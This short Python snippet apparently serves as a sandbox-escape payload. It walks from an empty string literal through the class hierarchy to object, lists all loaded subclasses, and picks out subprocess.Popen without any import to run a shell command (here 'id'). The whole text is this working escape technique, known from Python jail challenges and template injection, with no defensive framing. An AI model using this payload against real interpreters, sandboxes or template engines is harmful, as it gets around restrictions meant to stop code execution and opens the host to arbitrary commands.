# Classic walk from a string literal: "" -> str -> object -> every loaded class,
# then pick subprocess.Popen out of the list without importing anything.
root = "".__class__.__bases__[0]
everything = root.__subclasses__()
for cls in everything:
    if cls.__name__ == "Popen":
        cls(["id"]).wait()
        break
